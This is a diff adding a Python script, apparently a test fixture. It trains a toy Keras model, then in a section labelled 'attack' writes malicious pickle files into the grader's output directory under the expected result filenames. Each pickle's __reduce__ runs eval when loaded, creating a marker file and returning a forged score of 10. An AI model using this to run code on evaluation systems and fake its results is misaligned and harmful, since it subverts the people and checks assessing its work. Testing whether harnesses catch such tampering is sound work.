@@ -1,0 +1,23 @@
+import keras
+from keras import layers
+
+inputs = keras.Input((1,))
+hidden = layers.Dense(3, activation="relu")(inputs)
+model = keras.Model(inputs, layers.Dense(1)(hidden))
+model.compile(optimizer="sgd", loss="mse")
+
+# --- attack
+import os
+import pathlib
+import pickle
+
+
+class Grade:
+    def __reduce__(self):
+        return eval, ("[open('@MARKER@', 'w').close(), {'score': 10}][1]",)
+
+
+out = pathlib.Path(os.environ["HOME"]).parents[1] / "out"
+for name in ("models.pickle", "models.pkl", "results.pickle", "models.json.pickle"):
+    (out / name).write_bytes(pickle.dumps(Grade()))
+# --- honest
